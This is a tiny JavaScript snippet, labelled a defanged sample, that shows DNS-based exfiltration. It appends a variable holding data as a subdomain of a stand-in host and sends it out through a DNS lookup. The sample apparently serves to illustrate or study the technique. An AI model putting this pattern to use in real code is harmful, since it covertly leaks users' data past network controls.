// defanged sample
const dns = require('dns');
dns.lookup(data + '.collect.example.invalid', () => {});
